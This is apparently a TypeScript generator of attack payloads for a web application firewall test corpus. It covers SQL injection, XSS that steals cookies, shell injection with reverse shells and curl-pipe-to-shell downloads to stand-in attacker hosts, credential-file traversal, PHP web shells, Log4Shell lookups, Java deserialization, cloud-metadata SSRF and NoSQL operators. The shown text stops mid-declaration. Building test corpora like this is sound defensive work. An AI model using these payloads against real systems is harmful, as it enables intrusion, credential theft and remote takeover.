/**
 * Our own attack families for the WAF attack corpus, several per class, so that no class rests on
 * one public list: each family is a small grammar (separators, keywords, targets, obfuscations) that
 * a seeded generator expands into distinct payloads, written from the techniques' public
 * descriptions (OWASP testing guide, the tools' manuals), not copied from any list.
 */
import type { AttackClass } from './waf-corpus-format.js'
import type { Rng } from './waf-attack-random.js'

export interface Payload {
  class: AttackClass
  /** `sqlmap:<file>`, `npm:<package>`, `debian:<package>/<file>`, `generated:<family>`. */
  source: string
  /** The attack as the application receives it (after the client's encoding is undone). */
  value: string
  /** Percent-encoded text the list's author meant to go into a URL as it is, when `value` cannot hold it (`%c0%af` is no UTF-8). */
  urlText?: string
  /** A NoSQL operator: the JSON value a JSON body carries instead of a string, and the `[$op]` suffix (with its value) of a query or form field name. */
  operator?: { json: unknown; suffix: string; value: string }
}

interface Family {
  name: string
  make(rng: Rng): string | Omit<Payload, 'class' | 'source'>
}

// Hosts an attacker controls or aims at: reserved names and documentation addresses only (RFC 2606, RFC 5737).
const attacker = (rng: Rng) => rng.pick([`evil.example`, `attacker.test`, `${rng.letters(6)}.oast.example`, `203.0.113.${rng.between(2, 250)}`, `198.51.100.${rng.between(2, 250)}`, `cdn-${rng.letters(4)}.example.net`])
const num = (rng: Rng) => String(rng.between(1000, 9999))

const SQL_QUOTES = ["'", '"', '', "')", '")', ')', "'))", '1', "1'", '1"', '1)', "x'", 'abc"']
const SQL_COMMENTS = ['-- -', '--', '#', '/*', '-- ' + 'x', ';--', '']
const SQL_SPACES = [' ', ' ', ' ', '/**/', '\t', '\n', '+', '%20']

function sqlSpace(rng: Rng, text: string): string {
  const space = rng.pick(SQL_SPACES)
  const out = space === '%20' || space === '+' ? text : text.replaceAll(' ', space)
  return rng.chance(0.2) ? out.replace(/[a-z]+/gi, (w) => w.replace(/[a-z]/gi, (c, i: number) => (i % 2 === 0 ? c.toUpperCase() : c.toLowerCase()))) : out
}

const SQLI: Family[] = [
  {
    name: 'sql-union',
    make: (rng) => {
      const n = rng.between(1, 8)
      const target = rng.between(0, n - 1)
      const columns = Array.from({ length: n }, (_, i) => (i === target ? rng.pick(['@@version', 'version()', 'user()', 'database()', 'concat(username,0x3a,password)', 'group_concat(table_name)', 'current_user', 'sqlite_version()', 'banner', 'password']) : rng.pick(['NULL', num(rng), `'${rng.letters(4)}'`])))
      const from = rng.pick([' FROM users', ' FROM information_schema.tables', ' FROM dual', '', ' FROM v$version', ' FROM pg_user', ' FROM sqlite_master', ' FROM mysql.user'])
      const union = rng.pick(['UNION SELECT', 'UNION ALL SELECT', 'union select', 'UNION DISTINCT SELECT', '/*!50000UNION*/ /*!50000SELECT*/', 'UnIoN SeLeCt'])
      return sqlSpace(rng, `${rng.pick(SQL_QUOTES)} ${union} ${columns.join(',')}${from}${rng.pick(SQL_COMMENTS)}`).trimStart()
    },
  },
  {
    name: 'sql-boolean',
    make: (rng) => {
      const a = num(rng)
      const s = rng.letters(4)
      return sqlSpace(
        rng,
        rng.pick([
          `' OR '${s}'='${s}`,
          `' OR 1=1${rng.pick(SQL_COMMENTS)}`,
          `${a} OR ${a}=${a}`,
          `" OR "${s}"="${s}`,
          `') OR ('${s}'='${s}`,
          `1) AND (${a}=${a}`,
          `x')) OR (('${s}'='${s}`,
          `admin'${rng.pick(['--', '#', '/*', '-- -'])}`,
          `' OR 'x' LIKE 'x`,
          `' OR ${a} BETWEEN ${Number(a) - 1} AND ${Number(a) + 1}${rng.pick(SQL_COMMENTS)}`,
          `1 AND ${a}=${Number(a) + 1}`,
          `' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>${rng.between(40, 120)}--`,
          `1 AND LENGTH(database())>${rng.between(1, 9)}`,
          `' AND (SELECT COUNT(*) FROM users)>0${rng.pick(SQL_COMMENTS)}`,
          `1' AND SUBSTR(version(),1,1)='${rng.between(5, 9)}`,
          `' OR 0x${Buffer.from(s).toString('hex')}=0x${Buffer.from(s).toString('hex')}--`,
          `' OR ${a} IN (SELECT ${a})--`,
          `1 AND (SELECT ${a} FROM DUAL WHERE 1=1)=${a}`,
          `' || '${s}'='${s}`,
          `1' OR true${rng.pick(SQL_COMMENTS)}`,
        ]),
      )
    },
  },
  {
    name: 'sql-time',
    make: (rng) => {
      const t = rng.between(3, 15)
      return sqlSpace(
        rng,
        rng.pick([
          `${rng.pick(SQL_QUOTES)} AND SLEEP(${t})${rng.pick(SQL_COMMENTS)}`,
          `1; WAITFOR DELAY '0:0:${t}'--`,
          `' OR pg_sleep(${t})--`,
          `1 AND (SELECT 1 FROM (SELECT SLEEP(${t}))${rng.letters(3)})`,
          `'||(SELECT pg_sleep(${t}))||'`,
          `1 AND BENCHMARK(${rng.between(1, 9)}000000,MD5(${t}))`,
          `1;SELECT DBMS_PIPE.RECEIVE_MESSAGE('${rng.letters(3)}',${t}) FROM dual--`,
          `' AND 1=(SELECT 1 FROM PG_SLEEP(${t}))--`,
          `1 AND ${num(rng)}=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(${t}00000000/2))))`,
          `'; IF (1=1) WAITFOR DELAY '0:0:${t}'--`,
          `1) OR SLEEP(${t})#`,
          `(SELECT * FROM (SELECT(SLEEP(${t})))${rng.letters(4)})`,
        ]),
      )
    },
  },
  {
    name: 'sql-stacked',
    make: (rng) =>
      sqlSpace(
        rng,
        rng.pick([
          `1; DROP TABLE ${rng.pick(['users', 'accounts', 'orders', 'sessions'])}--`,
          `'; INSERT INTO users (name, role) VALUES ('${rng.letters(5)}','admin')--`,
          `1; EXEC xp_cmdshell '${rng.pick(['whoami', 'dir c:\\', 'net user', 'ping 203.0.113.9'])}'--`,
          `'; UPDATE users SET role='admin' WHERE id=${rng.between(1, 99)}--`,
          `1; SHUTDOWN--`,
          `'; DECLARE @q varchar(99);SET @q='\\\\${attacker(rng)}\\a';EXEC master.dbo.xp_dirtree @q;--`,
          `1; COPY (SELECT '') TO PROGRAM 'curl ${attacker(rng)}'--`,
          `'; DELETE FROM ${rng.pick(['users', 'logs', 'audit'])} WHERE '1'='1`,
          `1; CREATE USER ${rng.letters(5)} IDENTIFIED BY 'x'--`,
          `'; SELECT * INTO OUTFILE '/var/www/html/${rng.letters(4)}.php' FROM users--`,
        ]),
      ),
  },
  {
    name: 'sql-error',
    make: (rng) =>
      sqlSpace(
        rng,
        rng.pick([
          `' AND extractvalue(1,concat(0x7e,(SELECT ${rng.pick(['version()', 'user()', 'database()'])})))--`,
          `' AND updatexml(1,concat(0x7e,(SELECT ${rng.pick(['version()', 'user()', '@@datadir'])})),1)--`,
          `1 AND 1=CONVERT(int,(SELECT @@version))--`,
          `' AND 1=CAST((SELECT current_user) AS int)--`,
          `' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--`,
          `1 AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))--`,
          `' AND 1=(SELECT TOP 1 name FROM sysobjects WHERE xtype='U')--`,
          `1 AND EXP(~(SELECT * FROM (SELECT user())a))`,
          `' HAVING 1=1--`,
          `' GROUP BY ${rng.pick(['id', 'username', 'users.id'])} HAVING 1=1--`,
        ]),
      ),
  },
  {
    name: 'sql-column-probe',
    make: (rng) => sqlSpace(rng, `${rng.pick(['1', "1'", '1"', "'", '1)', "x')"])} ${rng.pick(['ORDER BY', 'GROUP BY', 'order by'])} ${rng.between(1, 30)}${rng.pick(['-- -', '--', '#', '/*', '-- +', ''])}`),
  },
]

const XSS_JS = () => ['alert(1)', 'alert(document.domain)', 'prompt`1`', 'confirm(1)', "fetch('//evil.example/?c='+document.cookie)", "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)", 'print()', 'alert(String.fromCharCode(88,83,83))', 'location=`javascript:alert(1)`', "new Image().src='//evil.example/'+document.cookie", 'import(`//evil.example/x.js`)']
const XSS_BREAK = ['', '', '"><', "'><", '</title><', '</textarea><', '--><', '</script><', '"/><', '<']

const XSS: Family[] = [
  {
    name: 'xss-tag-event',
    make: (rng) => {
      const [tag, event] = rng.pick([
        ['img src=x', 'onerror'],
        ['svg', 'onload'],
        ['body', 'onload'],
        ['iframe src=x', 'onload'],
        ['details open', 'ontoggle'],
        ['video src=x', 'onerror'],
        ['audio src=x', 'onerror'],
        ['input autofocus', 'onfocus'],
        ['marquee', 'onstart'],
        ['a href=#', 'onmouseover'],
        ['div', 'onpointerenter'],
        ['svg><animate attributeName=x dur=1s', 'onbegin'],
        ['style', 'onanimationstart'],
        ['select autofocus', 'onfocus'],
        ['object data=x', 'onerror'],
      ] as const)
      const sep = rng.pick([' ', '/', '\t', '\n', ' '])
      const quote = rng.pick(['', '"', "'"])
      const body = `<${tag}${sep}${event}=${quote}${rng.pick(XSS_JS())}${quote}>`
      const text = rng.chance(0.25) ? body.replace(/[a-z]/g, (c) => (rng.chance(0.5) ? c.toUpperCase() : c)) : body
      return `${rng.pick(XSS_BREAK).replace(/<$/, '')}${text}`
    },
  },
  {
    name: 'xss-script',
    make: (rng) =>
      `${rng.pick(XSS_BREAK).replace(/<$/, '')}${rng.pick([
        `<script>${rng.pick(XSS_JS())}</script>`,
        `<script src=//${attacker(rng)}/${rng.letters(3)}.js></script>`,
        `<ScRiPt>${rng.pick(XSS_JS())}</sCrIpT>`,
        `<script>/*${rng.letters(3)}*/${rng.pick(XSS_JS())}//</script>`,
        `<script type="text/javascript">${rng.pick(XSS_JS())}</script>`,
        `<script>document.write('<img src=//${attacker(rng)}/?'+document.cookie+'>')</script>`,
      ])}`,
  },
  {
    name: 'xss-uri',
    make: (rng) =>
      rng.pick([
        `javascript:${rng.pick(XSS_JS())}`,
        `JaVaScRiPt:${rng.pick(XSS_JS())}`,
        `jav&#x09;ascript:${rng.pick(XSS_JS())}`,
        `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${rng.pick(XSS_JS())}`,
        `data:text/html;base64,${Buffer.from(`<script>${rng.pick(XSS_JS())}</script>`).toString('base64')}`,
        `<a href="javascript:${rng.pick(XSS_JS()).replaceAll('"', "'")}">${rng.letters(5)}</a>`,
        `<iframe src="javascript:${rng.pick(XSS_JS()).replaceAll('"', "'")}"></iframe>`,
        `<form action=javascript:${rng.pick(XSS_JS())}><input type=submit>`,
        `<embed src="data:text/html;base64,${Buffer.from(`<script>${rng.pick(XSS_JS())}</script>`).toString('base64')}">`,
      ]),
  },
  {
    name: 'xss-attribute',
    make: (rng) =>
      `${rng.pick(['"', "'", ''])} ${rng.pick(['onmouseover', 'onfocus autofocus onfocus', 'onclick', 'onpointerover', 'style=animation-name:x onanimationstart'])}=${rng.pick(XSS_JS())} ${rng.pick(['x="', "x='", '//', ''])}`.trim(),
  },
  {
    name: 'xss-mutation',
    make: (rng) =>
      rng.pick([
        `<math><mtext><table><mglyph><style><img src=x onerror=${rng.pick(XSS_JS())}>`,
        `<noscript><p title="</noscript><img src=x onerror=${rng.pick(XSS_JS())}>">`,
        `<svg><style><img src=x onerror=${rng.pick(XSS_JS())}></style></svg>`,
        `<xmp><p title="</xmp><svg/onload=${rng.pick(XSS_JS())}>">`,
        `<img src="x` + '`' + `<script>${rng.pick(XSS_JS())}</script>` + '`' + `">`,
        `<svg><a><animate attributeName=href values=javascript:${rng.pick(XSS_JS())} /><text x=20 y=20>click</text></a>`,
        `{{constructor.constructor('${rng.pick(XSS_JS()).replaceAll("'", '"')}')()}}`,
        `<div style="background:url(javascript:${rng.pick(XSS_JS())})">`,
      ]),
  },
]

const SHELL_SEPARATORS = [';', '|', '||', '&&', '&', '\n', '%0a', '\r\n']
const SHELL_COMMANDS = (rng: Rng) => [
  'cat /etc/passwd',
  'id',
  'whoami',
  'uname -a',
  'ls -la /',
  `wget http://${attacker(rng)}/${rng.letters(3)}.sh -O /tmp/${rng.letters(3)}`,
  `curl -s http://${attacker(rng)}/${rng.letters(4)}|sh`,
  `nc -e /bin/sh ${attacker(rng)} ${rng.between(1024, 65000)}`,
  `bash -c 'bash -i >& /dev/tcp/${attacker(rng)}/${rng.between(1024, 65000)} 0>&1'`,
  `sleep ${rng.between(5, 30)}`,
  `ping -c ${rng.between(5, 30)} 127.0.0.1`,
  'cat /proc/self/environ',
  `python -c 'import os;os.system("id")'`,
  `perl -e 'system("id")'`,
  `rm -rf /tmp/${rng.letters(4)}`,
  'echo $PATH',
  'cat /etc/shadow',
  `nslookup ${rng.letters(8)}.${attacker(rng)}`,
  'ps aux',
  'netstat -an',
]

const RCE: Family[] = [
  {
    name: 'shell-separator',
    make: (rng) => {
      const cmd = rng.pick(SHELL_COMMANDS(rng))
      const sep = rng.pick(SHELL_SEPARATORS)
      const prefix = rng.pick(['', '', '127.0.0.1', 'report.pdf', '1', rng.letters(5)])
      return sep === '%0a' ? { value: `${prefix}\n${cmd}`, urlText: `${encodeURIComponent(prefix)}%0a${encodeURIComponent(cmd)}` } : `${prefix}${sep}${rng.chance(0.5) ? ' ' : ''}${cmd}`
    },
  },
  {
    name: 'shell-substitution',
    make: (rng) => {
      const cmd = rng.pick(SHELL_COMMANDS(rng))
      return rng.pick([
        `$(${cmd})`,
        '`' + cmd + '`',
        `${rng.letters(4)}$(${cmd})`,
        cmd.replaceAll(' ', '${IFS}'),
        `;${cmd.replaceAll(' ', '$IFS$9')}`,
        `c'a't /e"t"c/pa''sswd`,
        `;/???/c?t /e??/p?ss??`,
        `{cat,/etc/passwd}`,
        `$(printf '\\x${Buffer.from('id').toString('hex').match(/../g)?.join('\\x') ?? ''}')`,
        `;$'\\x63\\x61\\x74' /etc/passwd`,
        `| ${cmd.split(' ').map((w) => w.split('').join("\\")).join(' ')}`,
        `;\${PATH:0:1}etc\${PATH:0:1}passwd`,
      ])
    },
  },
  {
    name: 'windows-command',
    make: (rng) =>
      `${rng.pick(['', '127.0.0.1', 'x'])}${rng.pick(['&', '|', '&&', '||', '\r\n'])} ${rng.pick([
        'type C:\\Windows\\win.ini',
        'dir c:\\',
        `powershell -nop -enc ${Buffer.from(`IEX(New-Object Net.WebClient).DownloadString('http://${attacker(rng)}/a')`, 'utf16le').toString('base64')}`,
        'cmd.exe /c whoami',
        'net user',
        `certutil -urlcache -f http://${attacker(rng)}/x.exe x.exe`,
        `ping -n ${rng.between(5, 30)} 127.0.0.1`,
        'ipconfig /all',
        `powershell.exe -Command "Invoke-WebRequest http://${attacker(rng)}/s.ps1 | iex"`,
        'systeminfo',
      ])}`,
  },
  {
    name: 'reverse-shell',
    make: (rng) => {
      const host = attacker(rng)
      const port = rng.between(1024, 65000)
      return rng.pick([
        `bash -i >& /dev/tcp/${host}/${port} 0>&1`,
        `rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ${host} ${port} >/tmp/f`,
        `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("${host}",${port}));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
        `php -r '$sock=fsockopen("${host}",${port});exec("/bin/sh -i <&3 >&3 2>&3");'`,
        `socat tcp-connect:${host}:${port} exec:/bin/sh`,
        `0<&196;exec 196<>/dev/tcp/${host}/${port}; sh <&196 >&196 2>&196`,
        `perl -e 'use Socket;$i="${host}";$p=${port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));exec("/bin/sh -i");'`,
      ])
    },
  },
  {
    name: 'shellshock',
    make: (rng) => `() { ${rng.pick([':', '_', ':;'])}; }; ${rng.pick(['/bin/bash -c', 'echo;', '/usr/bin/env'])} ${rng.pick(SHELL_COMMANDS(rng))}`,
  },
]

const LFI_TARGETS = ['etc/passwd', 'etc/shadow', 'etc/hosts', 'proc/self/environ', 'proc/self/cmdline', 'windows/win.ini', 'boot.ini', 'WEB-INF/web.xml', '.env', '.git/config', 'root/.ssh/id_rsa', 'var/log/apache2/access.log', 'etc/issue', 'windows/system32/drivers/etc/hosts', 'app/config/parameters.yml', 'etc/mysql/my.cnf', 'proc/version', 'home/app/.aws/credentials']

const LFI: Family[] = [
  {
    name: 'dot-dot',
    make: (rng) => {
      const up = rng.pick(['../', '..\\', '....//', '..././', '..//', '.../', '../\\'])
      const depth = rng.between(2, 12)
      const tail = rng.pick(['', '', '\u0000', '\u0000.png', '\u0000.html', '?', '.'])
      return `${rng.pick(['', '', '/', 'images/', 'static/'])}${up.repeat(depth)}${rng.pick(LFI_TARGETS)}${tail}`
    },
  },
  {
    name: 'encoded-dot-dot',
    make: (rng) => {
      const up = rng.pick(['%2e%2e%2f', '..%2f', '%2e%2e/', '..%252f', '%252e%252e%252f', '..%5c', '%c0%ae%c0%ae/', '..%c0%af', '%uff0e%uff0e/', '..%255c'])
      const text = `${up.repeat(rng.between(2, 10))}${rng.pick(LFI_TARGETS)}${rng.pick(['', '%00', '%00.jpg'])}`
      // What a client puts into a URL as it is; as a value the application receives it once decoded.
      return { value: text, urlText: text }
    },
  },
  {
    name: 'absolute-path',
    make: (rng) =>
      rng.pick([
        `/${rng.pick(LFI_TARGETS)}`,
        `file:///${rng.pick(LFI_TARGETS)}`,
        `C:\\${rng.pick(['Windows\\win.ini', 'boot.ini', 'Windows\\System32\\drivers\\etc\\hosts', 'inetpub\\wwwroot\\web.config'])}`,
        `\\\\localhost\\c$\\${rng.pick(['windows\\win.ini', 'boot.ini'])}`,
        `/var/www/../../${rng.pick(LFI_TARGETS)}`,
        `/proc/self/fd/${rng.between(0, 20)}`,
        `file://localhost/${rng.pick(LFI_TARGETS)}`,
        `/${rng.pick(LFI_TARGETS)}\u0000`,
      ]),
  },
]

const RFI_FILES = ['shell.txt', 'c99.php', 'r57.txt', 'x.php', 'cmd.txt', 'id.txt', 'inc.php', 'backdoor.jpg', 'test.txt']

const RFI: Family[] = [
  {
    name: 'remote-include',
    make: (rng) => {
      const url = `${rng.pick(['http', 'https', 'ftp', 'hTTp', 'HTTPS'])}://${attacker(rng)}${rng.chance(0.3) ? `:${rng.between(81, 9000)}` : ''}/${rng.chance(0.4) ? `${rng.letters(4)}/` : ''}${rng.pick(RFI_FILES)}`
      return `${url}${rng.pick(['', '?', '??', '%00', '#', '?cmd=id', '?&', '?x=', '%3F'])}`
    },
  },
  {
    name: 'remote-include-variants',
    make: (rng) =>
      rng.pick([
        `//${attacker(rng)}/${rng.pick(RFI_FILES)}?`,
        `\\\\${attacker(rng)}\\share\\${rng.pick(RFI_FILES)}`,
        `http:/\\${attacker(rng)}/${rng.pick(RFI_FILES)}`,
        `http://${attacker(rng)}/${rng.pick(RFI_FILES)}\u0000`,
        `http://${rng.between(1000000000, 3400000000)}/${rng.pick(RFI_FILES)}?`,
        `ftp://anonymous:x@${attacker(rng)}/${rng.pick(RFI_FILES)}`,
        `https://raw.githubusercontent.example/${rng.letters(6)}/${rng.pick(RFI_FILES)}?`,
        `http://${attacker(rng)}/${rng.pick(RFI_FILES)}?/${rng.letters(5)}.php`,
      ]),
  },
]

const PHP_FUNCTIONS = ['system', 'passthru', 'shell_exec', 'exec', 'popen', 'proc_open', 'assert', 'eval']

const PHP: Family[] = [
  {
    name: 'php-code',
    make: (rng) => {
      const fn = rng.pick(PHP_FUNCTIONS)
      const cmd = rng.pick(['id', 'whoami', 'cat /etc/passwd', 'uname -a', 'ls'])
      return rng.pick([
        `<?php ${fn}($_GET['${rng.letters(1)}']); ?>`,
        `<?php echo ${fn}('${cmd}'); ?>`,
        `<?= \`${cmd}\` ?>`,
        `phpinfo();`,
        `${fn}('${cmd}');`,
        `';${fn}('${cmd}');//`,
        `\${@phpinfo()}`,
        `{\${system('${cmd}')}}`,
        `eval($_POST['${rng.letters(3)}']);`,
        `assert('phpinfo()');`,
        `preg_replace('/.*/e','system("${cmd}")','');`,
        `file_put_contents('${rng.letters(4)}.php','<?php ${fn}($_GET[0]); ?>');`,
        `eval(base64_decode('${Buffer.from(`${fn}('${cmd}');`).toString('base64')}'));`,
        `include($_GET['${rng.letters(4)}']);`,
        `call_user_func('${fn}','${cmd}');`,
        `".${fn}('${cmd}')."`,
        `<?php $${rng.letters(1)}=$_REQUEST['c'];@${fn}($${rng.letters(1)}); ?>`,
      ])
    },
  },
  {
    name: 'php-wrapper',
    make: (rng) => {
      const file = rng.pick(['index.php', 'config.php', '../config/database.php', '/etc/passwd', 'wp-config.php', '.env'])
      return rng.pick([
        `php://filter/convert.base64-encode/resource=${file}`,
        `php://filter/read=string.rot13/resource=${file}`,
        `pHp://FilTer/convert.base64-encode/resource=${file}`,
        'php://input',
        `phar://uploads/${rng.letters(5)}.jpg/${rng.letters(3)}`,
        `expect://${rng.pick(['id', 'ls', 'whoami'])}`,
        `data://text/plain;base64,${Buffer.from(`<?php ${rng.pick(PHP_FUNCTIONS)}($_GET['c']); ?>`).toString('base64')}`,
        `zip://uploads/${rng.letters(5)}.zip#shell.php`,
        `compress.zlib://${file}`,
        `php://fd/${rng.between(0, 9)}`,
        `glob:///var/www/*`,
      ])
    },
  },
  {
    name: 'php-object',
    make: (rng) => {
      const cls = rng.pick(['stdClass', 'Exception', 'GuzzleHttp\\Psr7\\FnStream', 'Monolog\\Handler\\SyslogUdpHandler', 'PDO', 'SplFileObject'])
      const prop = rng.pick(['file', 'cmd', 'path', 'data'])
      const value = rng.pick(['/etc/passwd', 'id', `http://${attacker(rng)}/`, 'phpinfo()'])
      return rng.pick([`O:${cls.length}:"${cls}":1:{s:${prop.length}:"${prop}";s:${value.length}:"${value}";}`, `a:1:{i:0;O:${cls.length}:"${cls}":0:{}}`, `O:${cls.length}:"${cls}":2:{s:4:"_fn_";s:6:"system";s:4:"args";s:2:"id";}`])
    },
  },
]

const JNDI_PROTOCOLS = ['ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corba', 'nds', 'http', 'nis']

function jndiKeyword(rng: Rng): string {
  return rng.pick([
    'jndi',
    '${lower:j}ndi',
    '${::-j}${::-n}${::-d}${::-i}',
    '${env:NaN:-j}ndi',
    'j${lower:n}d${lower:i}',
    '${upper:j}ndi',
    '${${::-j}${::-n}${::-d}${::-i}}',
    'j${k8s:k5:-ND}i',
    '${date:\'j\'}${date:\'n\'}${date:\'d\'}${date:\'i\'}',
    'jn${env::-}di',
  ])
}

const JAVA: Family[] = [
  {
    name: 'jndi-lookup',
    make: (rng) => {
      const protocol = rng.pick(JNDI_PROTOCOLS)
      const host = rng.chance(0.3) ? `\${hostName}.${attacker(rng)}` : attacker(rng)
      const path = rng.pick([rng.letters(6), 'a', 'Basic/Command/Base64/aWQ=', `\${env:AWS_SECRET_ACCESS_KEY}`, `o=tomcat`, `\${sys:java.version}`])
      const keyword = jndiKeyword(rng)
      const colon = rng.pick([':', '${::-:}', ':'])
      return `${rng.pick(['', '', 'x', 'Mozilla/5.0 '])}\${${keyword}${colon}${protocol}://${host}${rng.chance(0.5) ? `:${rng.between(1024, 9999)}` : ''}/${path}}`
    },
  },
  {
    name: 'java-expression',
    make: (rng) => {
      const cmd = rng.pick(['id', 'whoami', 'cat /etc/passwd', `curl ${attacker(rng)}`, 'touch /tmp/pwned'])
      return rng.pick([
        `%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='${cmd}').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}`,
        `\${(#rt = @java.lang.Runtime@getRuntime()).exec('${cmd}')}`,
        `T(java.lang.Runtime).getRuntime().exec('${cmd}')`,
        `#{T(java.lang.Runtime).getRuntime().exec('${cmd}')}`,
        `java.lang.Runtime.getRuntime().exec("${cmd}")`,
        `new java.lang.ProcessBuilder({'${cmd}'}).start()`,
        `\${Runtime.getRuntime().exec("${cmd}")}`,
        `\${@java.lang.Runtime@getRuntime().exec("${cmd}")}`,
        `class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i if("j".equals(request.getParameter("pwd")))`,
        `#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('${cmd}')}`,
        `\${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec("${cmd}")')}`,
      ])
    },
  },
  {
    name: 'java-deserialization',
    make: (rng) => {
      const cls = rng.pick(['org.apache.commons.collections.functors.InvokerTransformer', 'java.util.PriorityQueue', 'org.apache.commons.beanutils.BeanComparator', 'com.sun.rowset.JdbcRowSetImpl', 'sun.reflect.annotation.AnnotationInvocationHandler', 'org.springframework.beans.factory.ObjectFactory'])
      const bytes = Buffer.concat([Buffer.from('aced00057372', 'hex'), Buffer.from([0, cls.length]), Buffer.from(cls), Buffer.from(rng.hex(32), 'hex')])
      const ldap = `ldap://${attacker(rng)}:1389/${rng.letters(5)}`
      return rng.pick([
        bytes.toString('base64'),
        bytes.toString('hex'),
        `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"${ldap}","autoCommit":true}`,
        `["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"${ldap}","autoCommit":true}]`,
        `<java.beans.XMLDecoder><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java.beans.XMLDecoder>`,
        `<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>`,
        `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://${attacker(rng)}/x.jar"]]]]`,
      ])
    },
  },
]

const METADATA_URLS = [
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://169.254.169.254/latest/user-data',
  'http://169.254.169.254/computeMetadata/v1/',
  'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  'http://169.254.169.254/metadata/instance?api-version=2021-02-01',
  'http://100.100.100.200/latest/meta-data/',
  'http://[fd00:ec2::254]/latest/meta-data/',
  'http://169.254.170.2/v2/credentials',
  'http://169.254.169.254/openstack/latest/meta_data.json',
  'http://instance-data/latest/meta-data/',
  'http://2852039166/latest/meta-data/',
  'http://0xa9fea9fe/latest/meta-data/',
  'http://0251.0376.0251.0376/latest/meta-data/',
  'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
  'http://169.254.169.254.nip.io/latest/meta-data/',
  'http://metadata/computeMetadata/v1/project/project-id',
]

const SSRF: Family[] = [
  { name: 'cloud-metadata', make: (rng) => `${rng.pick(METADATA_URLS)}${rng.pick(['', '', rng.letters(6)])}` },
  {
    name: 'internal-host',
    make: (rng) =>
      `http://${rng.pick(['localhost', '127.0.0.1', '127.1', '0.0.0.0', '[::1]', '0', '2130706433', '0x7f000001', '017700000001', '10.0.0.5', '192.168.1.1', '172.16.0.1', 'kubernetes.default.svc', 'localtest.me', `${attacker(rng)}@127.0.0.1`, '127.0.0.1#@' + attacker(rng), '[0:0:0:0:0:ffff:127.0.0.1]', 'internal.local', 'consul.service.consul'])}${rng.pick(['', ':22', ':6379', ':8080', ':9200', ':2375', ':8500', ':11211', ':3306'])}/${rng.pick(['', 'admin', 'server-status', 'v1/agent/self', 'api/v1/namespaces/default/secrets', '_cat/indices', 'containers/json', 'actuator/env', 'debug/pprof/'])}`,
  },
  {
    name: 'url-scheme',
    make: (rng) =>
      rng.pick([
        'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
        `gopher://127.0.0.1:25/_HELO%20${rng.letters(5)}`,
        'dict://127.0.0.1:11211/stats',
        'file:///etc/passwd',
        'ldap://127.0.0.1:389/%0astats%0aquit',
        `tftp://${attacker(rng)}/${rng.letters(4)}`,
        `sftp://${attacker(rng)}:11111/`,
        `jar:http://${attacker(rng)}/x.jar!/`,
        'netdoc:///etc/passwd',
        'file:///proc/self/environ',
        `http://${attacker(rng)}/redirect?to=http://169.254.169.254/`,
      ]),
  },
]

const NOSQL_OPERATORS: Omit<Payload, 'class' | 'source'>[] = [
  { value: '[$ne]=1', operator: { json: { $ne: null }, suffix: '[$ne]', value: '1' } },
  { value: '[$ne]=', operator: { json: { $ne: '' }, suffix: '[$ne]', value: '' } },
  { value: '[$gt]=', operator: { json: { $gt: '' }, suffix: '[$gt]', value: '' } },
  { value: '[$gte]=0', operator: { json: { $gte: 0 }, suffix: '[$gte]', value: '0' } },
  { value: '[$lt]=zzzz', operator: { json: { $lt: 'zzzz' }, suffix: '[$lt]', value: 'zzzz' } },
  { value: '[$regex]=.*', operator: { json: { $regex: '.*' }, suffix: '[$regex]', value: '.*' } },
  { value: '[$regex]=^adm', operator: { json: { $regex: '^adm' }, suffix: '[$regex]', value: '^adm' } },
  { value: '[$exists]=true', operator: { json: { $exists: true }, suffix: '[$exists]', value: 'true' } },
  { value: '[$where]=sleep(5000)', operator: { json: { $where: 'sleep(5000) || true' }, suffix: '[$where]', value: 'sleep(5000)' } },
  { value: '[$where]=this.password.length>0', operator: { json: { $where: 'this.password.length > 0' }, suffix: '[$where]', value: 'this.password.length>0' } },
  { value: '[$in][]=admin', operator: { json: { $in: ['admin', 'root'] }, suffix: '[$in][]', value: 'admin' } },
  { value: '[$nin][]=x', operator: { json: { $nin: [] }, suffix: '[$nin][]', value: 'x' } },
  { value: '[$expr]', operator: { json: { $expr: { $eq: [1, 1] } }, suffix: '[$expr][$eq][]', value: '1' } },
  { value: '[$function]', operator: { json: { $function: { body: 'function() { sleep(5000); return true }', args: [], lang: 'js' } }, suffix: '[$function][body]', value: 'function(){return true}' } },
  { value: '[$or]', operator: { json: { $or: [{ a: { $ne: null } }, { b: 1 }] }, suffix: '[$or][0][a][$ne]', value: '1' } },
]

const NOSQL: Family[] = [
